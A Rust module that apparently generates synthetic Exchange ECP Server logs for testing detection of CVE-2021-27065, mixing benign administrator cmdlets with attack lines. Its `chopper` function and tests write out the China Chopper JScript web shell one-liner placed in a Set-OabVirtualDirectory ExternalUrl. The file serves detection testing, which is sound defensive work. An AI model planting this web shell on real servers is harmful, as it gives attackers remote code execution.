//! ECP Server logs (`<install>\Logging\ECP\Server\ECPServer*.LOG`): the
//! cmdlets the Exchange Control Panel ran. CVE-2021-27065 shows here as a
//! `Set-OabVirtualDirectory` whose `ExternalUrl` holds a China Chopper
//! script (reference §1.1, §5.4).

use crate::csv;
use crate::rng::SplitMix64;
use crate::site;
use crate::time::Time;
use std::io::{self, Write};

/// One ECP Server log line. `data` is the EventData text before CSV
/// quoting (the `''` around values are Exchange's own escaping and stay).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EcpLine {
    pub time: Time,
    pub server: String,
    pub event_id: String,
    pub data: String,
}

/// Writes one ECP Server log file (header on creation, CRLF).
pub struct EcpWriter<W: Write> {
    out: W,
    line: Vec<u8>,
}

impl<W: Write> EcpWriter<W> {
    pub fn new(mut out: W, date: Time) -> io::Result<Self> {
        write!(
            out,
            "#Software: Microsoft Exchange Server\r\n#Version: {}\r\n#Log-type: ECP Server Logs\r\n#Date: {}\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n",
            site::BUILD,
            date.iso()
        )?;
        Ok(EcpWriter {
            out,
            line: Vec::with_capacity(1024),
        })
    }

    pub fn write_line(&mut self, l: &EcpLine) -> io::Result<()> {
        self.line.clear();
        self.line.extend_from_slice(l.time.iso().as_bytes());
        self.line.push(b',');
        csv::push_field(&mut self.line, &l.server);
        self.line.push(b',');
        csv::push_field(&mut self.line, &l.event_id);
        self.line.push(b',');
        // Exchange quotes EventData (it is a list of `S:key=value` pairs).
        csv::push_quoted(&mut self.line, &l.data);
        self.line.extend_from_slice(b"\r\n");
        self.out.write_all(&self.line)
    }

    pub fn finish(mut self) -> io::Result<W> {
        self.out.flush()?;
        Ok(self.out)
    }
}

/// A whole file in memory.
pub fn render(date: Time, lines: &[EcpLine]) -> Vec<u8> {
    let mut w = EcpWriter::new(Vec::new(), date).expect("writing to memory");
    for l in lines {
        w.write_line(l).expect("writing to memory");
    }
    w.finish().expect("writing to memory")
}

fn line(rng: &mut SplitMix64, at: Time, user: &str, method: &str, cmd: &str) -> EcpLine {
    let mut data = format!(
        "S:ServiceCommonMetadata.HttpMethod={method};S:ServiceCommonMetadata.ActivityScope="
    );
    rng.push_guid(&mut data);
    data.push_str(";S:ActivityStandardMetadata.UserEmail=");
    data.push_str(user);
    data.push_str(";S:CMD=");
    data.push_str(cmd);
    EcpLine {
        time: at,
        server: site::SERVER.to_string(),
        event_id: "ECP.Request".to_string(),
        data,
    }
}

fn admin() -> String {
    format!("admin@{}", site::DOMAIN)
}

/// An ordinary line: users reading their settings, the administrator
/// listing recipients. Never contains `<`.
pub fn benign(rng: &mut SplitMix64, at: Time) -> EcpLine {
    const USERS: &[&str] = &[
        "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
    ];
    let u = *rng.pick(USERS);
    let upn = format!("{u}@{}", site::DOMAIN);
    match rng.below(7) {
        0 => line(
            rng,
            at,
            &admin(),
            "POST",
            &format!("Get-Mailbox.Identity=''{u}''"),
        ),
        1 => line(
            rng,
            at,
            &admin(),
            "POST",
            "Get-Recipient.ResultSize=''500''.RecipientTypeDetails=''UserMailbox''",
        ),
        2 => line(
            rng,
            at,
            &upn,
            "POST",
            &format!("Get-MailboxAutoReplyConfiguration.Identity=''{u}''"),
        ),
        3 => line(
            rng,
            at,
            &upn,
            "POST",
            &format!("Get-InboxRule.Mailbox=''{u}''"),
        ),
        4 => line(
            rng,
            at,
            &admin(),
            "POST",
            &format!("Get-MailboxStatistics.Identity=''{u}''"),
        ),
        5 => line(
            rng,
            at,
            &admin(),
            "POST",
            // A quota with the thousands separators Exchange prints: the
            // field needs CSV quoting for its commas.
            &format!(
                "Set-Mailbox.Identity=''{u}''.ProhibitSendQuota=''49.5 GB (53,150,220,288 bytes)''"
            ),
        ),
        _ => line(
            rng,
            at,
            &admin(),
            "GET",
            "Get-OwaVirtualDirectory.Identity=''EX01\\owa (Default Web Site)''",
        ),
    }
}

/// The administrator setting the OAB virtual directory's ExternalUrl to
/// the real public URL (same cmdlet as the attack, no markup), with the
/// ActivityContextData tail that repeats the cmdlet name.
pub fn admin_set_oab(rng: &mut SplitMix64, at: Time) -> EcpLine {
    let mut l = line(
        rng,
        at,
        &admin(),
        "POST",
        &format!(
            "Set-OabVirtualDirectory.ExternalUrl=''https://{}/OAB''.Identity=''{}\\OAB (Default Web Site)''",
            site::EXTERNAL_HOST,
            site::SERVER
        ),
    );
    l.data.push_str(";S:ActivityContextData=ActivityID=");
    rng.push_guid(&mut l.data);
    l.data.push_str(";Cmd=Set-OabVirtualDirectory");
    l
}

/// The administrator changing OWA's InternalUrl.
pub fn admin_set_owa(rng: &mut SplitMix64, at: Time) -> EcpLine {
    line(
        rng,
        at,
        &admin(),
        "POST",
        &format!(
            "Set-OwaVirtualDirectory.InternalUrl=''https://{}/owa''.Identity=''{}\\owa (Default Web Site)''",
            site::SERVER_FQDN.to_ascii_lowercase(),
            site::SERVER
        ),
    )
}

/// The attacker's read of the OAB virtual directory (DDIService GetObject
/// through the SSRF, running as the impersonated administrator).
pub fn attacker_get_oab(rng: &mut SplitMix64, at: Time) -> EcpLine {
    line(
        rng,
        at,
        &format!("administrator@{}", site::DOMAIN),
        "POST",
        &format!(
            "Get-OabVirtualDirectory.Identity=''{}\\OAB (Default Web Site)''",
            site::SERVER
        ),
    )
}

/// The China Chopper one-liner of the 2021 campaign (reference §5.4), as
/// logged: inner `"` plain here (the CSV writer doubles them).
pub fn chopper(param: &str) -> String {
    format!(
        r#"http://f/<script language="JScript" runat="server">function Page_Load(){{eval(Request["{param}"],"unsafe");}}</script>"#
    )
}

/// CVE-2021-27065: `Set-OabVirtualDirectory` with the web shell in
/// ExternalUrl. With `tail`, the line ends with
/// `;S:ActivityContextData=...Cmd=Set-OabVirtualDirectory`, which
/// Test-ProxyLogon's regex needs (a later `VirtualDirectory`); without it
/// only a looser predicate finds the line.
pub fn webshell_set_oab(rng: &mut SplitMix64, at: Time, param: &str, tail: bool) -> EcpLine {
    let mut l = line(
        rng,
        at,
        &format!("administrator@{}", site::DOMAIN),
        "POST",
        &format!(
            "Set-OabVirtualDirectory.ExternalUrl=''{}''.Identity=''{}\\OAB (Default Web Site)''",
            chopper(param),
            site::SERVER
        ),
    );
    if tail {
        l.data.push_str(";S:ActivityContextData=ActivityID=");
        rng.push_guid(&mut l.data);
        l.data.push_str(";Cmd=Set-OabVirtualDirectory");
    }
    l
}

/// `n` ordinary lines through the hour starting at `hour`, in time order,
/// with an admin `Set-OabVirtualDirectory` and `Set-OwaVirtualDirectory`
/// among them when `admin_changes` is set.
pub fn benign_hour(
    rng: &mut SplitMix64,
    hour: Time,
    n: usize,
    admin_changes: bool,
) -> Vec<EcpLine> {
    let n = n.max(3) as i64;
    let step = 3_600_000 / n;
    let mut out: Vec<EcpLine> = (0..n)
        .map(|i| {
            let at = hour.plus_ms(i * step + rng.below(step as u64) as i64);
            benign(rng, at)
        })
        .collect();
    if admin_changes {
        let i = (n / 3) as usize;
        let t = out[i].time.plus_ms(5);
        out.insert(i + 1, admin_set_oab(rng, t));
        let j = (2 * n / 3) as usize;
        let t = out[j].time.plus_ms(5);
        out.insert(j + 1, admin_set_owa(rng, t));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::csv::split_line;

    #[test]
    fn shell_line_as_the_reference_quotes_it() {
        let mut rng = SplitMix64::new(1);
        let at = Time::utc(2021, 3, 3, 6, 49, 53).plus_ms(772);
        let bytes = render(
            at.hour_start(),
            &[webshell_set_oab(&mut rng, at, "klk123456", false)],
        );
        let text = String::from_utf8(bytes).unwrap();
        let last = text.lines().last().unwrap();
        assert!(last.starts_with("2021-03-03T06:49:53.772Z,EX01,ECP.Request,\"S:"));
        assert!(last.contains(r#"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''EX01\OAB (Default Web Site)''"#));
        assert!(!last.contains("ActivityContextData"));
        let f = split_line(last);
        assert_eq!(f.len(), 4);
        assert!(f[3].contains(r#"eval(Request["klk123456"],"unsafe")"#));
        let tail = webshell_set_oab(&mut rng, at, "klk123456", true);
        assert!(tail.data.ends_with(";Cmd=Set-OabVirtualDirectory"));
    }

    #[test]
    fn benign_lines_hold_no_markup_and_parse() {
        let mut rng = SplitMix64::new(2);
        let lines = benign_hour(&mut rng, Time::utc(2021, 2, 20, 9, 0, 0), 300, true);
        assert!(lines.windows(2).all(|w| w[0].time <= w[1].time));
        assert!(lines.iter().any(|l| l
            .data
            .contains("Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''")));
        assert!(lines
            .iter()
            .any(|l| l.data.contains("Set-OwaVirtualDirectory.InternalUrl=")));
        let text = String::from_utf8(render(lines[0].time, &lines)).unwrap();
        for l in text.lines().filter(|l| !l.starts_with('#')) {
            assert!(!l.contains('<'), "{l}");
            assert_eq!(split_line(l).len(), 4, "{l}");
        }
    }
}
